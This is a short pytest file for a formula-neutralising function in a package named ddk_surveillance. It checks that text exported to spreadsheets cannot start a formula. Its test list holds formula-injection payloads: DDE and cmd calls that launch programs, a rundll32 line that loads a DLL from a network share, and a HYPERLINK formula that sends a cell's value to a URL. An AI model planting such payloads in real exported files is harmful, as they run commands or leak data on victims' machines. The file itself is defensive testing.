"""No text that we write starts a formula."""

import pytest

from ddk_surveillance.writing import neutralise_formula

FORMULAS = [
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "\tplain",
    "@A1",
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"x")',
]
HARMLESS = ["", "跌倒", "-1", "+3.5", "-0.5%", "2024-03-05", "a=b", "—", "'=1+1", "x@y"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_plain_text(text: str) -> None:
    assert neutralise_formula(text) == f"'{text}"
    assert neutralise_formula(neutralise_formula(text)) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert neutralise_formula(text) == text
